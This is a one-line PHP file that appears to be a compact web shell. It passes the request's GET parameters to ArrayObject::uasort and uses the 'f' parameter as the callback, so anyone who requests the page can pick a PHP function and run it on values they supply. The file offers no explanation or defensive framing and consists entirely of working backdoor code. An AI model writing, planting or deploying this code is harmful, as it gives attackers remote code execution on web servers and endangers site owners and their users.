<?php $x = new ArrayObject($_GET); $x->uasort($_GET["f"]);
